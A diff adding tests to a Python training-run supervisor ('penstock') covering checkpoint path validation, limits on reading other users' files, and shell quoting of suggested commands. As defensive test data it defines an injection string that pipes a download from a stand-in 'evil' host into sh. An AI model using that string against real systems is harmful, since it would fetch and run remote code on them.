@@ -7,6 +7,7 @@ import dataclasses
 import json
 import os
 import resource
+import shlex
 import shutil
 import subprocess
 import sys
@@ -23,7 +24,9 @@ from typer.testing import CliRunner
 
 from penstock.cli import runs
 from penstock.cli.main import app
+from penstock.cli.status import next_commands, status
 from penstock.observe import jsonl
+from penstock.own_files import MAX_FOREIGN_BYTES, read_document
 from penstock.supervisor.procfs import Identity, identify, read_stat
 from penstock.supervisor.run_journal import RunJournal, read_state
 from penstock.supervisor.states import RunState
@@ -206,13 +209,58 @@ def test_a_history_without_end_does_not_fill_the_memory(run_dir: Path) -> None:
 
 
 def test_the_events_of_a_long_run_are_all_shown(run_dir: Path) -> None:
-    jsonl.append(run_dir / "events.jsonl", {"time": 1.0, "event": "checkpoint", "step": 5, "path": "checkpoints/5"})
+    jsonl.append(
+        run_dir / "events.jsonl", {"time": 1.0, "event": "checkpoint", "step": 5, "path": "checkpoints/step_5"}
+    )
     line = json.dumps({"time": 1.0, "event": "process_totals", "padding": "x" * 500})
     with (run_dir / "events.jsonl").open("a") as file:
         file.write(f"{line}\n" * 40_000)
     said = CliRunner().invoke(app, ["status", str(run_dir), "--json"])
-    assert json.loads(said.stdout)["checkpoint"] == "checkpoints/5"
+    assert json.loads(said.stdout)["checkpoint"] == "checkpoints/step_5"
 
 
 def test_the_commands_know_the_settings_of_a_run(run_dir: Path) -> None:
     assert runs.config_of(run_dir) == {"trainer": {"steps": 9}}
+
+
+def test_little_is_read_of_the_files_of_another_user(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    path = tmp_path / "events.jsonl"
+    path.write_bytes(b"{}\n" * (MAX_FOREIGN_BYTES // 2))
+    assert len(jsonl.tail(path, 2 * MAX_FOREIGN_BYTES)) == MAX_FOREIGN_BYTES // 2
+    assert len(read_document(path)) > MAX_FOREIGN_BYTES
+    monkeypatch.setattr(os, "geteuid", lambda: OTHER)
+    assert 0 < len(jsonl.tail(path, 2 * MAX_FOREIGN_BYTES)) <= MAX_FOREIGN_BYTES // 3
+    with pytest.raises(OSError, match="has more than"):
+        read_document(path)
+
+
+HOSTILE = "a; curl -s http:/evil/x | sh #"
+
+
+@pytest.mark.parametrize(
+    "path", [f"checkpoints/step_3 {HOSTILE}", "../x/step_3", "checkpoints/step_3\n", "/tmp/step_3"]
+)
+def test_a_checkpoint_lies_where_a_run_writes_it(run_dir: Path, path: str) -> None:
+    jsonl.append(run_dir / "events.jsonl", {"time": 1.0, "event": "checkpoint", "step": 3, "path": path})
+    assert status(run_dir)["checkpoint"] is None
+
+
+@pytest.mark.parametrize("state", ["completed", "failed", "stopped", "lost", "suspended", "running"])
+@pytest.mark.parametrize("pipeline", ["train", "eval", "rollout"])
+def test_suggested_commands_take_names_as_names(tmp_path: Path, state: str, pipeline: str) -> None:
+    run_dir = tmp_path / HOSTILE
+    document = {
+        "run_dir": str(run_dir),
+        "status": state,
+        "pipeline": pipeline,
+        "root_cause": {"process": HOSTILE, "returncode": 1},
+        "checkpoint": "checkpoints/step_3",
+        "processes": [{"pid": 1}],
+        "progress": {"needs": HOSTILE},
+    }
+    commands = next_commands(document)
+    assert commands
+    for command in commands:
+        words = shlex.split(command)
+        quoted = [word for word in words if HOSTILE in word]
+        assert command == shlex.join(words) and (quoted or state == "suspended"), command
